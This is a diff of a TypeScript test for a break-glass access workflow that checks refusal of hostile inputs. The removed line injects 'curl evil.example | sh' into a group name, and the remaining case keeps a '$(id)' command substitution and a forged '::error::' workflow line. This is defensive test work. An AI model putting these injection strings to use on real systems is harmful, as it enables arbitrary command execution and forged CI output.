@@ -72,7 +72,7 @@ test('refused, with nothing granted and no issue: a person not allowed, hostile 
   try {
     const cases: [string, Record<string, string>, RegExp][] = [
       ['octocat', good, /octocat may not break glass for k8s-prod-operators; its policy allows hubot, @acme\/sre-leads/],
-      ['hubot', { ...good, group: 'k8s-prod-operators; curl evil.example | sh', duration: '$(id)', reason: 'x\n::error::forged\n' }, /is not in the policy/],
+      ['hubot', { ...good, duration: '$(id)', reason: 'x\n::error::forged\n' }, /is not a duration/],
     ];
     for (const [actor, inputs, why] of cases) {
       const { run, out } = await breakGlass(s, actor, inputs);
